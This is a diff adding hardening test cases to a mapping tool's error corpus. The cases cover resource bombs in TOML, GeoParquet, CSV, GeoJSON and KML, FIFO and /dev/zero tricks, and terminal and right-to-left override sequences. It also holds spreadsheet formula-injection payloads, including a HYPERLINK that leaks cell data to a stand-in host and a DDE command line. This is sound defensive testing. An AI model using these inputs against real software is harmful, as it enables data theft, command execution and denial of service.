@@ -12,6 +12,7 @@ In messages and arguments ``{d}`` is the case's own folder.  Run this file
 """
 
 import json
+import os
 import shutil
 import sys
 from dataclasses import dataclass, field
@@ -360,16 +361,16 @@ def _cases():
 
     # -- too much ------------------------------------------------------------------
     case("places-csv-too-large", _render("{d}/b.toml"),
-         "{d}/b.toml:3: places: {d}/p.csv: 60 MiB; places files may be at most 50 MiB",
+         "{d}/b.toml:3: places: {d}/p.csv: 60 MiB; places files may be at most 16 MiB",
          files={"b.toml": with_places_csv}, setup=_sparse("p.csv", 60 * 2**20))
     case("points-file-too-large", _render(points=["{d}/p.csv"]),
          "{d}/p.csv: 600 MiB; point files may be at most 512 MiB",
          setup=_sparse("p.csv", 600 * 2**20))
     case("geodata-file-too-large", _places(),
-         "{d}/geo/events.json: 300 MiB; geodata files may be at most 64 MiB",
+         "{d}/geo/events.json: 300 MiB; geodata files may be at most 16 MiB",
          setup=lambda d: (shutil.copytree(DATA_DIR, d / "geo"), _sparse("geo/events.json", 300 * 2**20)(d)))
     case("briefing-too-large", _render("{d}/b.toml"),
-         "{d}/b.toml: 300 MiB; briefing files may be at most 64 MiB",
+         "{d}/b.toml: 300 MiB; briefing files may be at most 1 MiB",
          setup=_sparse("b.toml", 300 * 2**20))
     case("too-many-categories", _render(points=["{d}/p.csv"]),
          "{d}/p.csv: the category column has 300 different values; a category column may have at most 255 "
@@ -378,10 +379,309 @@ def _cases():
 
     # -- bounded work (issue 17): every case here has bounded=True ------------------
     # -- bounded work: briefings ---------------------------------------------------
+    # A key of 50,000 parts, 100 KB: tomllib alone takes 7.7 GB and 33 s, then MemoryError.
+    long_key = ".".join(["a"] * 50_000)
+    too_long = "a key of 50,000 parts; keys may have at most 16"
+    case("toml-key-50000-parts", _render("{d}/b.toml"), f"{{d}}/b.toml:3: {too_long}",
+         files={"b.toml": _toml(f"{long_key} = 1\n")}, bounded=True)
+    case("toml-table-header-50000-parts", _render("{d}/b.toml"), f"{{d}}/b.toml:4: {too_long}",
+         files={"b.toml": _toml(f"# [view]\n[{long_key}]\n")}, bounded=True)
+    case("toml-array-of-tables-50000-parts", _render("{d}/b.toml"), f"{{d}}/b.toml:3: {too_long}",
+         files={"b.toml": _toml(f"[[{long_key}]]\n")}, bounded=True)
+    case("toml-inline-table-key-50000-parts", _render("{d}/b.toml"), f"{{d}}/b.toml:4: {too_long}",
+         files={"b.toml": _toml(f"[view]\nbounds = {{ south = 44.0, {long_key} = 1 }}\n")}, bounded=True)
+    # Nested 1,000 deep, tomllib's recursion overflows.
+    case("toml-arrays-1000-deep", _render("{d}/b.toml"),
+         "{d}/b.toml:3: arrays and inline tables nested 1,000 deep; at most 32",
+         files={"b.toml": _toml("ids = " + "[" * 1000 + "]" * 1000 + "\n")}, bounded=True)
+    case("toml-inline-tables-1000-deep", _render("{d}/b.toml"),
+         "{d}/b.toml:3: arrays and inline tables nested 1,000 deep; at most 32",
+         files={"b.toml": _toml("view = " + "{ a = " * 1000 + "1" + " }" * 1000 + "\n")}, bounded=True)
+    case("toml-20001-keys", _render("{d}/b.toml"),
+         "{d}/b.toml: 20,001 keys; a briefing may have at most 10,000",
+         files={"b.toml": _toml("".join(f"[[ranges]]\nid = 'r{i}'\n" for i in range(9_999)) + "note = 'x'\n")},
+         bounded=True)
+    case("toml-integer-5000-digits", _render("{d}/b.toml"),
+         "{d}/b.toml: invalid TOML: Exceeds the limit (4300 digits) for integer string conversion: value has "
+         "5000 digits; use sys.set_int_max_str_digits() to increase the limit",
+         files={"b.toml": _toml("stamp = " + "9" * 5000 + "\n")}, bounded=True)
+    case("briefing-just-over-limit", _render("{d}/b.toml"),
+         "{d}/b.toml: 1.1 MiB; briefing files may be at most 1 MiB",
+         setup=_sparse("b.toml", 2**20 + 1), bounded=True)
     # -- bounded work: point files -------------------------------------------------
+    def point_file(name, *parts, repeat=1):
+        """Setup: {d}/``name`` holding ``parts[0]``, then ``parts[1]`` ``repeat`` times, then the rest (made
+        when the case runs, not when the corpus loads)."""
+        head, *body = parts
+        return lambda d: (d / name).write_bytes(head + (body[0] * repeat if body else b"") + b"".join(body[1:]))
+
+    def geoparquet(rows, plain=False, **columns):
+        """Setup: {d}/p.parquet, GeoParquet of ``rows`` copies of one point, plus ``columns`` of one value
+        each, dictionary-encoded as an attacker writes it (no Arrow schema, so a reader sees plain binary
+        and text): a few KiB a million rows, however much they decode to.  ``plain``: every byte as it is."""
+
+        def setup(d):
+            import numpy as np
+            import pyarrow as pa
+            import pyarrow.parquet as pq
+            import shapely
+
+            block = min(rows, 1_000_000)
+            first = pa.array(np.zeros(block, dtype=np.int32))  # every row the dictionary's first value
+            values = {"geometry": [shapely.to_wkb(shapely.Point(30.5, 50.4))], **{k: [v] for k, v in columns.items()}}
+            table = pa.table({k: pa.DictionaryArray.from_arrays(first, pa.array(v)) for k, v in values.items()})
+            if plain:
+                table = table.cast(pa.schema([(f.name, f.type.value_type) for f in table.schema]))
+            options = {"compression": "none", "use_dictionary": False, "write_statistics": False} if plain else \
+                {"compression": "zstd"}
+            with pq.ParquetWriter(d / "p.parquet", table.schema, store_schema=False, **options) as out:
+                for start in range(0, rows, block):
+                    out.write_table(table.slice(0, min(block, rows - start)))
+                out.add_key_value_metadata({"geo": json.dumps({
+                    "version": "1.1.0", "primary_column": "geometry",
+                    "columns": {"geometry": {"encoding": "WKB", "geometry_types": ["Point"]}}})})
+            assert (d / "p.parquet").stat().st_size < 2**20
+
+        return setup
+
+    def not_utf8_geoparquet(d):
+        """Setup: {d}/p.parquet, GeoParquet whose name column holds the byte 0xff."""
+        geoparquet(1, plain=True, name="Kyiv")(d)
+        data = (d / "p.parquet").read_bytes()
+        assert data.count(b"Kyiv") == 1
+        (d / "p.parquet").write_bytes(data.replace(b"Kyiv", b"Ky\xffv"))
+
+    def plain_parquet(d):
+        """Setup: {d}/p.parquet, a Parquet table (no geometry) with coordinates in columns, as pandas writes it."""
+        import pandas as pd
+
+        pd.DataFrame({"Latitude": [50.45, 49.99], "Longitude": [30.52, 36.23], "event_type": ["strike", "shelling"],
+                      "name": ["Kyiv report", "Kharkiv report"]}).to_parquet(d / "p.parquet")
+
+    parquet_points, csv_points = _render(points=["{d}/p.parquet"]), _render(points=["{d}/p.csv"])
+    at_most = "a point layer holds at most 2,000,000 points"
+    # 97 KB that decoded to 5 GB before the row count was checked; 484 KB that died with std::bad_alloc.
+    case("points-geoparquet-one-point-20m-times", parquet_points,
+         f"{{d}}/p.parquet: 20,000,000 features; {at_most}", setup=geoparquet(20_000_000), bounded=True)
+    case("points-geoparquet-100m-rows", parquet_points,
+         f"{{d}}/p.parquet: 100,000,000 features; {at_most}", setup=geoparquet(100_000_000), bounded=True)
+    # 15 KB: a name of 1 MiB, two million times, two terabytes once decoded.
+    case("points-geoparquet-1mib-name-2m-times", parquet_points,
+         "{d}/p.parquet: column 'name' holds 2,000,000 MiB of text once decoded; the columns a point layer uses may "
+         "hold at most 512 MiB", setup=geoparquet(2_000_000, name="x" * 2**20), bounded=True)
+    case("points-geoparquet-not-utf8", parquet_points,
+         "{d}/p.parquet: column 'name' holds text that is not UTF-8", setup=not_utf8_geoparquet, bounded=True)
+    case("points-plain-parquet-lat-lon", parquet_points, None, setup=plain_parquet, bounded=True)
+    # Counted in chunks, before pandas reads anything: 510 MiB of these took 10 GB and 2 min 24 s.
+    case("points-csv-2000001-lines", csv_points, f"{{d}}/p.csv: more than 2,000,000 data lines; {at_most}",
+         setup=point_file("p.csv", b"lat,lon\n", b"0,0\n", repeat=2_000_001), bounded=True)
+    case("points-csv-comma-lines", csv_points, f"{{d}}/p.csv: more than 2,000,000 data lines; {at_most}",
+         setup=point_file("p.csv", b"lat,lon\n", b",\n", repeat=3_000_000), bounded=True)
+    case("points-csv-lone-cr-lines", csv_points, f"{{d}}/p.csv: more than 2,000,000 data lines; {at_most}",
+         setup=point_file("p.csv", b"lat,lon\r", b"0,0\r", repeat=2_000_001), bounded=True)
+    # 5 MB of header took more than 8.7 GB.
+    case("points-csv-5m-columns", csv_points,
+         "{d}/p.csv: the header (the first line) is longer than 64 KiB; a point file may have at most 1,000 columns",
+         setup=point_file("p.csv", b"lat,lon", b",", b"\n0,0\n", repeat=5_000_000), bounded=True)
+    case("points-csv-1001-columns", csv_points, "{d}/p.csv: 1,001 columns; a point file may have at most 1,000",
+         setup=point_file("p.csv", b"lat,lon", b",x", b"\n0,0\n", repeat=999), bounded=True)
+    # Was a traceback: the csv module's field limit, met while looking for the long row.
+    case("points-csv-long-field-then-long-row", csv_points,
+         "{d}/p.csv: not valid CSV: line 2: a field is longer than 131,072 characters (is a quote left open?)",
+         setup=point_file("p.csv", b"lat,lon,name\n50,30,", b"x", b"\n50,30,a,b\n", repeat=200_000), bounded=True)
+    # 2 MB: GDAL took 26 s and 6.4 GB for 20,000 property names, each new one slower.
+    case("points-geojson-20000-property-names", _render(points=["{d}/p.geojson"]),
+         "{d}/p.geojson: more than 1,000 property names; a point file may have at most 1,000 columns",
+         setup=lambda d: (d / "p.geojson").write_text(json.dumps({"type": "FeatureCollection", "features": [
+             {"type": "Feature", "properties": {f"k{i}": 1}, "geometry": {"type": "Point", "coordinates": [30, 50]}}
+             for i in range(20_000)]})), bounded=True)
+    case("points-geojson-feature-over-1mib", _render(points=["{d}/p.geojson"]),
+         "{d}/p.geojson: the JSON value at line 1, column 44 is longer than 1 MiB; a point file's features may be "
+         "at most 1 MiB each",
+         setup=point_file("p.geojson", b'{"type": "FeatureCollection", "features": [{"properties": {"a": [',
+                          b"{},", b'{}]}, "type": "Feature", "geometry": null}]}', repeat=1_000_000), bounded=True)
     # -- bounded work: point dates and fragments -----------------------------------
     # -- bounded work: areas, geometry, places, KML, special files -----------------
+    def reach(system, origin, within=None):
+        args = ("coverage", system, "--from", origin) + (("--within", within) if within else ())
+
+        def api(d):
+            from mapper import api as front
+
+            return front.reach(system, origin.format(d=d), within.format(d=d) if within else None, DATA_DIR)
+
+        return args, api
+
+    def line_area(positions):
+        coords = [[30 + i * 1e-4, 50 + (i % 2) * 1e-4] for i in range(positions)]
+        return json.dumps({"type": "LineString", "coordinates": coords}, separators=(",", ":"))
+
+    def fifo(name):
+        return lambda d: os.mkfifo(d / name)
+
+    def dev_zero(name):
+        return lambda d: (d / name).symlink_to("/dev/zero")
+
+    def geo_link(name):
+        """The bundled geodata with one registry file a link to /dev/zero."""
+        return lambda d: (shutil.copytree(DATA_DIR, d / "geo"), (d / "geo" / name).unlink(),
+                          (d / "geo" / name).symlink_to("/dev/zero"))
+
+    def zigzag_route(doc):
+        route = doc["features"][0]
+        start, end = route["geometry"]["coordinates"][0], route["geometry"]["coordinates"][-1]
+        middle = [[0.0 if i % 2 else 179.0, 0.0] for i in range(200)]  # about 4,000,000 km
+        route["geometry"]["coordinates"] = [start, *middle, end]
+        route["properties"]["waypoints"] = ["assumed"] * (len(middle) + 2)
+
+    kml = '<kml xmlns="http://www.opengis.net/kml/2.2">{}</kml>'
+    too_many_places = PLACES_HEADER + "".join(f"Place {i},50.{i:05d},30.5,me,UA\n" for i in range(10_001))
+    case("area-too-many-positions", reach("fath-360", "{d}/front.geojson"),
+         "{d}/front.geojson: more than 100,000 positions; an area file may have at most 100,000 "
+         "(simplify it, e.g. with ogr2ogr -simplify)", files={"front.geojson": line_area(200_000)}, bounded=True)
+    case("within-area-too-many-positions", reach("fath-360", "belgorod", "{d}/front.geojson"),
+         "{d}/front.geojson: more than 100,000 positions; an area file may have at most 100,000 "
+         "(simplify it, e.g. with ogr2ogr -simplify)", files={"front.geojson": line_area(100_001)}, bounded=True)
+    case("briefing-area-too-many-positions", _render("{d}/b.toml"),
+         "{d}/b.toml:5: ranges[0].area: {d}/front.geojson: more than 100,000 positions; an area file may have at "
+         "most 100,000 (simplify it, e.g. with ogr2ogr -simplify)",
+         files={"b.toml": _toml('[[ranges]]\nsystem = "fath-360"\narea = "front.geojson"\n'),
+                "front.geojson": line_area(200_000)}, bounded=True)
+    case("area-too-many-features", reach("fath-360", "{d}/many.geojson"),
+         "{d}/many.geojson: 10,001 features; an area file may have at most 10,000",
+         files={"many.geojson": json.dumps({"type": "FeatureCollection", "features": [
+             {"type": "Feature", "properties": {}, "geometry": None}] * 10_001})}, bounded=True)
+    case("area-file-too-large", reach("fath-360", "{d}/big.geojson"),
+         "{d}/big.geojson: 17 MiB; area files may be at most 16 MiB", setup=_sparse("big.geojson", 17 * 2**20),
+         bounded=True)
+    case("reach-too-many-circles", reach("5km", "russia"),
+         "Russia: a reach of 5 km around it takes 42,884 geodesic circles along its outline; at most 25,000 "
+         "(give a larger radius, a simpler area, or an area to look within)", exit_code=2, error=InputError,
+         bounded=True)
+    case("places-csv-too-many-rows", _render("{d}/b.toml"),
+         "{d}/b.toml:3: places: {d}/p.csv: more than 10,000 rows; a places file may have at most 10,000 places",
+         files={"b.toml": with_places_csv, "p.csv": too_many_places}, bounded=True)
+    case("places-geojson-too-many-features", _render("{d}/b.toml"),
+         "{d}/b.toml:3: places: {d}/p.geojson: 10,001 features; a places file may have at most 10,000 places",
+         files={"b.toml": _toml('places = ["p.geojson"]\n'), "p.geojson": json.dumps({
+             "type": "FeatureCollection", "features": [{"type": "Feature", "properties": {}, "geometry": None}]
+             * 10_001})}, bounded=True)
+    case("places-kml-nested-too-deep", _render("{d}/b.toml"),
+         "{d}/b.toml:3: places: {d}/p.kml: elements nested more than 64 deep; KML places need a few",
+         files={"b.toml": _toml('places = ["p.kml"]\n'),
+                "p.kml": kml.format("<Folder>" * 100_000 + "</Folder>" * 100_000)}, bounded=True)
+    case("places-kml-too-many-elements", _render("{d}/b.toml"),
+         "{d}/b.toml:3: places: {d}/p.kml: more than 500,000 XML elements; a places file may have at most 500,000",
+         files={"b.toml": _toml('places = ["p.kml"]\n'), "p.kml": kml.format("<a/>" * 600_000)}, bounded=True)
+    case("geodata-too-many-records", _places(),
+         "events.json: -: events: 10,001 records; at most 10,000",
+         setup=lambda d: _geo(d, "events.json", lambda doc: doc.update(events=[{}] * 10_001)), bounded=True)
+    case("geodata-routes-too-long", _places(),
+         "routes.geojson: caspian-anzali-astrakhan: geometry: the routes are more than 2,000,000 km long in all; "
+         "each is drawn as a geodesic every 25 km", setup=lambda d: _geo(d, "routes.geojson", zigzag_route),
+         bounded=True)
+    area_range = '[[ranges]]\nsystem = "fath-360"\narea = "Russia"\n'
+    case("briefing-too-many-area-ranges", _render("{d}/b.toml"),
+         "{d}/b.toml:3: ranges: 5 ranges from an area; a briefing may have at most 4 (each measures every place "
+         "against the area's outline)", files={"b.toml": _toml(area_range * 5)}, bounded=True)
+    case("range-too-many-measures", _render("{d}/b.toml"),
+         "Russia: measuring 3,524 places against 30,911 points of its outline takes 108,930,364 distances; "
+         "at most 100,000,000 (draw fewer places or use a simpler area)", exit_code=2, error=InputError,
+         files={"b.toml": _toml('places = ["p.csv"]\n' + area_range),
+                "p.csv": PLACES_HEADER + "".join(f"Place {i},50.{i:05d},30.5,me,UA\n" for i in range(3_500))},
+         bounded=True)
+    case("special-briefing-dev-zero", _render("{d}/b.toml"), "{d}/b.toml: not a regular file",
+         setup=dev_zero("b.toml"), bounded=True)
+    case("special-briefing-fifo", _render("{d}/b.toml"), "{d}/b.toml: not a regular file",
+         setup=fifo("b.toml"), bounded=True)
+    case("special-places-file-fifo", _render("{d}/b.toml"),
+         "{d}/b.toml:3: places: {d}/p.csv: not a regular file",
+         files={"b.toml": with_places_csv}, setup=fifo("p.csv"), bounded=True)
+    case("special-points-file-dev-zero", _render(points=["{d}/p.csv"]), "{d}/p.csv: not a regular file",
+         setup=dev_zero("p.csv"), bounded=True)
+    case("special-briefing-points-fifo", _render("{d}/b.toml"),
+         "{d}/b.toml:4: points[0].file: {d}/p.csv: not a regular file",
+         files={"b.toml": _toml('[[points]]\nfile = "p.csv"\n')}, setup=fifo("p.csv"), bounded=True)
+    case("special-area-fifo", reach("fath-360", "belgorod", "{d}/front.geojson"),
+         "{d}/front.geojson: not a regular file", setup=fifo("front.geojson"), bounded=True)
+    case("special-registry-dev-zero", _places(), "{d}/geo/events.json: not a regular file",
+         setup=geo_link("events.json"), bounded=True)
+    case("special-briefing-data-folder-dev-zero", _render("{d}/b.toml"),
+         "{d}/b.toml:3: data: {d}/mine/events.json: not a regular file",
+         files={"b.toml": _toml('data = ["mine"]\n')},
+         setup=lambda d: ((d / "mine").mkdir(), (d / "mine" / "events.json").symlink_to("/dev/zero")), bounded=True)
     # -- bounded work: terminal, output paths, units, CSV and KML exports ----------
+    def route_call(speed):
+        def api(d):
+            from mapper import api as front
+
+            return front.route(["astara", "makhachkala"], "sea", speed, DATA_DIR)
+
+        return ("route", "astara", "makhachkala", "--speed", speed), api
+
+    def new_briefing_call(name):
+        def api(d):
+            from mapper import api as front
+
+            return front.new_briefing(name.format(d=d))
+
+        return ("new-briefing", name), api
+
+    def export_call(briefing, output, fmt):
+        def api(d):
+            from mapper import api as front
+
+            return front.export(briefing.format(d=d), output.format(d=d), fmt)
+
+        return ("export", briefing, "-f", fmt, "-o", output), api
+
+    def ring_output_call(output):
+        def api(d):
+            from mapper import api as front
+
+            return front.write_features(output.format(d=d), [front.ring("50.45,30.52", "10km", DATA_DIR)])
+
+        return ("ring", "50.45,30.52", "-r", "10km", "-o", output), api
+
+    def dangling_link(name, target):
+        return lambda d: (d / name).symlink_to(d / target)
+
+    terminal_name = "Kyiv\x1b[2K\r\x1b]0;owned\x07\x9b31m\u202e0.1 km\u202c\x08"
+    case("radius-without-unit", _ring("50.45,30.52", "120"),
+         "radius '120' needs a unit: 120km, 120mi, 120nmi or 120m", exit_code=2, error=InputError, bounded=True)
+    case("radius-below-a-metre", _ring("50.45,30.52", "1e-9km"),
+         "radius 1e-06 m is less than 1 m, the smallest ring mapper draws", exit_code=2, error=InputError,
+         bounded=True)
+    case("radius-in-millimetres", _ring("50.45,30.52", "1mm"),
+         "unknown unit 'mm'; use one of m, km, mi, nmi", exit_code=2, error=InputError, bounded=True)
+    case("speed-without-unit", route_call("10"),
+         "speed '10' needs a unit: 10kn, 10km/h, 10mph or 10m/s", exit_code=2, error=InputError, bounded=True)
+    case("briefing-speed-without-unit", _render("{d}/b.toml"),
+         "{d}/b.toml:6: routes[0].speed: speed '12' needs a unit: 12kn, 12km/h, 12mph or 12m/s",
+         files={"b.toml": _toml('[[routes]]\nfrom = "astara"\nto = "makhachkala"\nspeed = 12\n')}, bounded=True)
+    case("output-ends-in-slash", ring_output_call("{d}/out.geojson/"),
+         "{d}/out.geojson/: ends in '/', so it names a folder, not a file to write", exit_code=2, error=InputError,
+         bounded=True)
+    case("output-dangling-symlink", ring_output_call("{d}/out.geojson"),
+         "{d}/out.geojson: is a symlink to {d}/maps/today.geojson, which does not exist; use --overwrite to "
+         "replace it", api_message="{d}/out.geojson: is a symlink to {d}/maps/today.geojson, which does not exist",
+         setup=dangling_link("out.geojson", "maps/today.geojson"), error=OutputExistsError, bounded=True)
+    case("new-briefing-control-character", new_briefing_call("{d}/brief\x1b[31mred"),
+         "briefing name '{d}/brief\\x1b[31mred': holds a control character (U+001B); give a file name such as "
+         "my-briefing", exit_code=2, error=InputError, bounded=True)
+    case("new-briefing-direction-override", new_briefing_call("{d}/invoice\u202elmth"),
+         "briefing name '{d}/invoice\\u202elmth': holds a control character (U+202E); give a file name such as "
+         "my-briefing", exit_code=2, error=InputError, bounded=True)
+    case("places-name-with-terminal-sequences", _places(), None,
+         setup=_set_place("kyiv", name=terminal_name), bounded=True)
+    case("kml-export-control-character-id", export_call("{d}/b.toml", "{d}/x.kml", "kml"), None,
+         files={"b.toml": 'title = "Corpus"\nlayers = ["ranges"]\n[[ranges]]\nid = "a\\u001bb"\n'
+                          'system = "fath-360"\ncentre = "kyiv"\n'}, bounded=True)
+    case("csv-export-formula-names", export_call("{d}/b.toml", "{d}/x.csv", "csv"), None,
+         files={"b.toml": with_places_csv,
+                "p.csv": PLACES_HEADER + '"=HYPERLINK(""http://x.example/?leak=""&A1,""click"")",50.48,34.97,me,UA\n'
+                                         "+cmd|' /C calc'!A0,50.5,34.9,me,UA\n@SUM(1),50.6,34.8,me,UA\n"},
+         bounded=True)
     return cases
 
 
